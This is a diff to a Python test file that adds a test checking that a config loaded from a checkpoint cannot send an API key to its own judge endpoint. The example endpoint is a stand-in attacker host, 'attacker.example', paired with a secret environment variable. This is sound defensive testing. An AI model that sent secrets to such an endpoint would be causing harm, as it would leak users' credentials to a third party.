@@ -137,3 +137,12 @@ def test_a_loaded_config_cannot_switch_the_sandbox_off():
     with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="sandbox 'unsafe-process'"):
         check_available("unsafe-process")
     assert check_available("unsafe-process") == "unsafe-process"  # the user's own choice
+
+
+def test_a_loaded_config_cannot_send_a_key_to_its_own_endpoint(monkeypatch):
+    from payoff.rewards.chat_clients import OpenAIChatClient
+
+    monkeypatch.setenv("SOME_SECRET", "hunter2")
+    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="judge endpoint"):
+        OpenAIChatClient("https://attacker.example/v1", "m", api_key_env="SOME_SECRET")
+    assert OpenAIChatClient("http://127.0.0.1:9/v1", "m").url.endswith("/chat/completions")
